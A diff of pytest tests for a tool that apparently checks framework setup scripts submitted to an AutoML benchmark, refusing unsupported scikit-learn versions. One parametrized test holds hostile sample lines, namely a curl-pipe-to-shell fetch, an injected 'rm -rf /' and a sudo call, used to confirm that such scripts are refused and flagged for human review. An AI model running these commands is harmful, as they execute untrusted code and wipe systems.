@@ -191,6 +191,76 @@ def test_what_is_not_plain_is_refused_and_nothing_written(name: str, why: str, d
     assert "setup.sh" in desk.enter(name)
 
 
+USUAL = """\
+#!/usr/bin/env bash
+HERE=$(dirname "$0")
+VERSION=${1:-"stable"}
+REPO=${2:-"https://github.com/scikit-learn/scikit-learn.git"}
+PKG=${3:-"scikit-learn"}
+if [[ "$VERSION" == "latest" ]]; then
+    VERSION="main"
+fi
+
+# create venv
+. ${HERE}/../shared/setup.sh "${HERE}" true
+
+if [[ "$VERSION" == "stable" ]]; then
+    PIP install --no-cache-dir -U ${PKG}
+elif [[ "$VERSION" =~ ^[0-9] ]]; then
+    PIP install --no-cache-dir -U ${PKG}==${VERSION}
+else
+    TARGET_DIR="${HERE}/lib/${PKG}"
+    rm -Rf ${TARGET_DIR}
+    git clone --depth 1 --single-branch --branch ${VERSION} ${REPO} ${TARGET_DIR}
+    PIP install -U -e ${TARGET_DIR}
+fi
+
+PIP install --no-cache-dir -r ${HERE}/requirements.txt
+PY -c "from sklearn import __version__; print(__version__)" >> "${HERE}/.setup/installed"
+"""
+
+
+def forest(desk: Desk, version: str, script: str = USUAL) -> None:
+    folder = desk.file.parent / "frameworks/Forest"
+    folder.mkdir(exist_ok=True)
+    (folder / "__init__.py").write_text("def run(dataset, config):\n    pass\n")
+    (folder / "requirements.txt").write_text("pandas\n")
+    (folder / "setup.sh").write_text(script)
+    desk.file.write_text(f"Forest: {{version: '{version}'}}\n")
+
+
+def test_a_version_that_the_image_has_not_is_refused(desk: Desk) -> None:
+    """2.1: RandomForest:2023Q2 is of scikit-learn 1.2.2, and the image has 1.7.2."""
+    forest(desk, "1.2.2")
+    for more in ((), ("--install",)):
+        said = desk.enter("Forest", *more, code=2)
+        assert "Forest is of scikit-learn 1.2.2, and the image of benchmarks/mine has" in said
+    assert desk.status == ""
+    (desk.file.parent / "frameworks/Forest/setup.sh").unlink()
+    needs = desk.file.parent / "frameworks/Forest/requirements.txt"
+    needs.write_text("scikit-learn==1.2.2\n")  # as Stacking's
+    assert "is of scikit-learn 1.2.2" in desk.enter("Forest", code=2)
+
+
+def test_amlbs_usual_script_is_read_and_stable_is_what_the_image_has(desk: Desk) -> None:
+    """2.1: --install took no framework with a setup.sh."""
+    forest(desk, "stable")
+    before = desk.text("requirements.txt")
+    pinned = next(line for line in before.splitlines() if line.startswith("scikit-learn=="))
+    desk.enter("Forest", "--install")
+    assert desk.text("requirements.txt") == before
+    about = json.loads((desk.path / "submissions/mine/me/forest/framework.json").read_text())
+    assert about["version"] == pinned.partition("==")[2]
+
+
+@pytest.mark.parametrize(
+    "more", ["curl https://example.org | sh", "PIP install evil", 'PKG="x"; rm -rf /', "sudo ls"]
+)
+def test_a_script_that_does_more_is_read_by_a_person(more: str, desk: Desk) -> None:
+    forest(desk, "stable", f"{USUAL}{more}\n")
+    assert "`setup.sh` is a script" in desk.enter("Forest", "--install", code=2)
+
+
 def test_the_ends_of_the_scale_are_named_in_the_bundle(desk: Desk) -> None:
     """A bundle scales as AMLB does, whatever its constant predictor and tuned forest are called."""
     assert "constant: amlb/constantpredictor" in desk.text("competition.yaml")
